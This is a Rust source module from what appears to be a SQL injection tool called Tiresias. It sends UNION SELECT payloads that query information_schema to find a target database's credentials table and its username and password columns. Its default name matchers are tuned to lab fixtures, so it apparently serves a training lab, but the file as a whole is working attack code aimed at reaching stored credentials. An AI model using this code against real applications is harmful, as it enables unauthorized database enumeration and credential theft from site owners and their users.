//! Credentials table and column discovery through `information_schema`

use crate::error::{Result, TiresiasError};
use crate::http::Oracle;
use crate::logger::Logger;
use crate::models::{CredentialColumns, UnionShape};
use serde::{Deserialize, Serialize};

use super::catalog::Signature;
use super::payload::{self, UnionSelect};
use super::scrape::{self, Matcher};

const TABLES_VIEW: &str = "information_schema.tables";
const COLUMNS_VIEW: &str = "information_schema.columns";

/// Predicates that pick the credentials table and its columns out of the
/// metadata listings. The defaults match the lab fixtures' name prefixes.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SchemaMarkers {
    pub table: Matcher,
    pub username: Matcher,
    pub password: Matcher,
}

impl Default for SchemaMarkers {
    fn default() -> Self {
        Self {
            table: Matcher::prefix("users_"),
            username: Matcher::prefix("username_"),
            password: Matcher::prefix("password_"),
        }
    }
}

/// Sends `query` and returns the first header cell matching `matcher`.
/// `CellNotFound` is passed through for the caller to rename.
async fn probe_and_scrape(
    oracle: &dyn Oracle,
    base: &str,
    token: &str,
    query: &UnionSelect,
    matcher: &Matcher,
) -> Result<String> {
    let url = payload::to_url(base, &query.render(base, token));
    let result = oracle.probe(&url).await?;

    if !result.is_success() {
        return Err(TiresiasError::UnexpectedStatus {
            url,
            status: result.status,
        });
    }

    scrape::first_header(&result.body, matcher)
}

fn require_information_schema(signature: &Signature) -> Result<()> {
    if signature.has_information_schema() {
        Ok(())
    } else {
        Err(TiresiasError::UnsupportedEngine {
            engine: signature.name(),
        })
    }
}

/// Lists table names and returns the first one `matcher` accepts
pub async fn discover_table(
    oracle: &dyn Oracle,
    log: &Logger,
    base: &str,
    token: &str,
    shape: UnionShape,
    signature: &Signature,
    matcher: &Matcher,
) -> Result<String> {
    require_information_schema(signature)?;

    let query = UnionSelect::for_shape(shape, "table_name").source(TABLES_VIEW);
    log.debug(format!("Listing tables, looking for {matcher}"));

    probe_and_scrape(oracle, base, token, &query, matcher)
        .await
        .map_err(|e| match e {
            TiresiasError::CellNotFound { matcher } => TiresiasError::TableNotFound { matcher },
            other => other,
        })
}

/// Lists the columns of `table` and returns the first one `matcher` accepts
#[allow(clippy::too_many_arguments)]
pub async fn discover_column(
    oracle: &dyn Oracle,
    log: &Logger,
    base: &str,
    token: &str,
    shape: UnionShape,
    signature: &Signature,
    table: &str,
    matcher: &Matcher,
) -> Result<String> {
    require_information_schema(signature)?;

    let query = UnionSelect::for_shape(shape, "column_name")
        .source(COLUMNS_VIEW)
        .filter(payload::equals("table_name", table));
    log.debug(format!("Listing columns of {table}, looking for {matcher}"));

    probe_and_scrape(oracle, base, token, &query, matcher)
        .await
        .map_err(|e| match e {
            TiresiasError::CellNotFound { matcher } => TiresiasError::ColumnNotFound {
                table: table.to_string(),
                matcher,
            },
            other => other,
        })
}

/// Resolves the username and password columns, one listing each
#[allow(clippy::too_many_arguments)]
pub async fn discover_credential_columns(
    oracle: &dyn Oracle,
    log: &Logger,
    base: &str,
    token: &str,
    shape: UnionShape,
    signature: &Signature,
    table: &str,
    markers: &SchemaMarkers,
) -> Result<CredentialColumns> {
    let username = discover_column(
        oracle,
        log,
        base,
        token,
        shape,
        signature,
        table,
        &markers.username,
    )
    .await?;
    let password = discover_column(
        oracle,
        log,
        base,
        token,
        shape,
        signature,
        table,
        &markers.password,
    )
    .await?;

    Ok(CredentialColumns { username, password })
}
